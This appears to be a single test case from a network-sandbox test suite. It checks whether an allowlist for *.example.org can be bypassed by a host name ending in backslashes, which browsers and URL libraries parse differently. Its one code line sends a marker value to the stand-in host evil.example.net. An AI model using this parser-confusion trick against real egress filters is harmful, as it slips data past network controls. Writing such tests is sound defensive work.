# /// attack
# guarantee = "network"
# summary = "Ends the name in a URL by a backslash, as browsers do and libraries do not."
# reference = "WHATWG URL, 4.4"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80"] } }
# refusal = { default = "proxy is not a host name" }
# ///

from kit import get, judge, target

judge(get("evil.example.net", "/" + target("MARKER"), named="evil.example.net\\\\.example.org"))
